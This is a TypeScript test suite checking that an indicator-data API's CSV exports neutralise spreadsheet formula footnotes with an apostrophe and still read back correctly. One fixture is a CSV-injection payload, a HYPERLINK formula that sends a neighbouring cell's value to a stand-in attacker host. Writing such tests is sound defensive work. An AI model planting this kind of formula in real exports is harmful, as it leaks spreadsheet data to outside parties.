import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { parseUpload } from '../../src/ingest/upload/index.ts';
import type { Store } from '../../src/store/index.ts';
import { apiSuite } from '../support/api-suite.ts';
import { signIn } from '../support/auth.ts';
import { observation, year } from '../support/builders.ts';
import { dialectOptions, STORE_DIALECTS } from '../support/stores.ts';
import { seedUnderFiveMortality } from '../support/country-seed.ts';
import { BGD_CONTEXT } from '../ingest/upload-fixtures.ts';

/** A footnote that would send the neighbouring cell to another site if a spreadsheet ran it as a formula. */
const HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A1,"Click for details")';

/** Three values of 3.2.1 with footnotes a spreadsheet would run (`=`, `@`, `-`), one negative value, one plain note. */
async function seed(store: Store): Promise<void> {
  await seedUnderFiveMortality(store, 'test:formulas', [
    observation({ period: year('2019'), value: 31.1, attributes: { COMMENT_OBS: HYPERLINK } }),
    observation({ period: year('2020'), value: -5, attributes: { COMMENT_OBS: '@SUM(A1:A9)' } }),
    observation({ period: year('2021'), value: 27.3, attributes: { COMMENT_OBS: '-2+3 revised' } }),
    observation({ period: year('2022'), value: 26.1, attributes: { COMMENT_OBS: 'Estimate, "UN IGME"' } }),
  ]);
}

for (const dialect of STORE_DIALECTS) {
  describe(`CSV downloads escape formula text on ${dialect}`, dialectOptions(dialect), () => {
    const api = apiSuite(dialect, seed);

    it('GET /indicators/{code}/observations?format=csv prefixes formula footnotes with an apostrophe and keeps -5 a number', async () => {
      const r = await api.app.inject('/api/v1/indicators/3.2.1/observations?format=csv');
      assert.equal(r.statusCode, 200);
      const rows = parse(r.body) as string[][];
      const at = (column: string): number => rows[0]!.indexOf(column);
      assert.deepEqual(rows.slice(1).map((row) => [row[at('TIME_PERIOD')], row[at('OBS_VALUE')], row[at('COMMENT_OBS')]]), [
        ['2019', '31.1', `'${HYPERLINK}`], ['2020', '-5', "'@SUM(A1:A9)"], ['2021', '27.3', "'-2+3 revised"], ['2022', '26.1', 'Estimate, "UN IGME"'],
      ]);
      assert.match(r.body, /^3\.2\.1,SH_DYN_MORT,050,2020,-5,/m);
    });

    it('GET /indicators/{code}/template.csv prefixes formula footnotes with an apostrophe and keeps -5 a number', async () => {
      const viewer = await signIn(api.store.db, 'viewer');
      const r = await api.app.inject({ url: '/api/v1/indicators/3.2.1/template.csv', headers: viewer.headers });
      assert.equal(r.statusCode, 200);
      const rows = parse(r.body, { bom: true }) as string[][];
      const at = (column: string): number => rows[0]!.indexOf(column);
      assert.deepEqual(rows.slice(1).map((row) => [row[at('TIME_PERIOD')], row[at('OBS_VALUE')], row[at('COMMENT_OBS')]]), [
        ['2019', '31.1', `'${HYPERLINK}`], ['2020', '-5', "'@SUM(A1:A9)"], ['2021', '27.3', "'-2+3 revised"], ['2022', '26.1', 'Estimate, "UN IGME"'],
      ]);
    });

    it('GET /indicators/{code}/template.csv read back through parseUpload gives the footnotes as they were', async () => {
      const viewer = await signIn(api.store.db, 'viewer');
      const r = await api.app.inject({ url: '/api/v1/indicators/3.2.1/template.csv', headers: viewer.headers });
      const parsed = await parseUpload({ stream: Readable.from([r.rawPayload]), fileName: 'indicator_3-2-1_template.csv' }, BGD_CONTEXT);
      assert.deepEqual(parsed.issues, []);
      assert.deepEqual(parsed.observations.map((o) => [o.observation.value, o.observation.attributes.COMMENT_OBS]).sort(),
        [[-5, '@SUM(A1:A9)'], [26.1, 'Estimate, "UN IGME"'], [27.3, '-2+3 revised'], [31.1, HYPERLINK]].sort());
    });
  });
}
